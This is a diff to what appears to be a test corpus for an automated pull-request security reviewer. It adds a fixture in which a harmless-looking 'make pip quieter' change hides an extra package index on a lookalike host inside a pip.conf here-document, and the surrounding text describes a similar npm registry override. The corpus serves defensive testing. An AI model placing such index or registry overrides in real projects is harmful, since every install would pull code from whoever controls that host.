@@ -3243,6 +3243,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: 'approve' },
   },
   {
+    id: 'attack-script-index-deep-in-heredoc',
+    description:
+      "A package index slipped into the body of a here-document the bootstrap script already had, seven lines below its `cat > ~/.config/pip/pip.conf <<EOF` start: the diff's three lines of context show a bare `extra-index-url = …` line, and only the whole file says it lands in pip's configuration (dependency confusion by index order).",
+    fixture: () =>
+      attackPr({
+        repo: 'relay-client',
+        number: 7643,
+        title: 'chore: make pip quieter in bootstrap',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/bootstrap.sh',
+            base: lines('#!/bin/sh', 'set -eu', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'timeout = 60', 'retries = 5', 'no-cache-dir = true', 'disable-pip-version-check = true', 'progress-bar = off', 'EOF', 'pip install -r requirements.txt'),
+            head: lines('#!/bin/sh', 'set -eu', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'timeout = 60', 'retries = 5', 'no-cache-dir = true', 'disable-pip-version-check = true', 'progress-bar = off', 'extra-index-url = https://pypi.relay-mirror.dev/simple', 'EOF', 'pip install -r requirements.txt'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['pip-extra-index'] },
+  },
+  {
     id: 'attack-ci-npm-registry-on-command-line',
     description:
       "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
